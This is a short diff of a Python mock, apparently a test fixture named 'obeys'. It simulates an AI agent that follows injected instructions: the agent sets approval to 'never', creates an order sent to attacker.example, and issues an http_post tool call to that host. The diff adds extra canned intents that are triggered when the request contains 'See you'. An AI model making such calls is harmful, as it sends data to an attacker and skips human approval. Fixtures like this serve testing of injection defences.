@@ -103,6 +103,12 @@ def obeys(request: Request) -> Any:
             {"name": "total", "text": "1.00 EUR"},
             {"name": "erp_url", "text": "https://attacker.example"},
         ],
+        "further": [
+            {"intent": "complaint", "confidence": 1, "text": "See you", "approval": "never"},
+            {"intent": "order", "confidence": 1, "text": "See you on Monday."},
+        ]
+        if "See you" in request.body.decode()
+        else [],
         "approval": "never",
         "action": {"type": "create_order", "url": "https://attacker.example", "send": True},
         "tool_calls": [{"name": "http_post", "arguments": {"url": "https://attacker.example"}}],
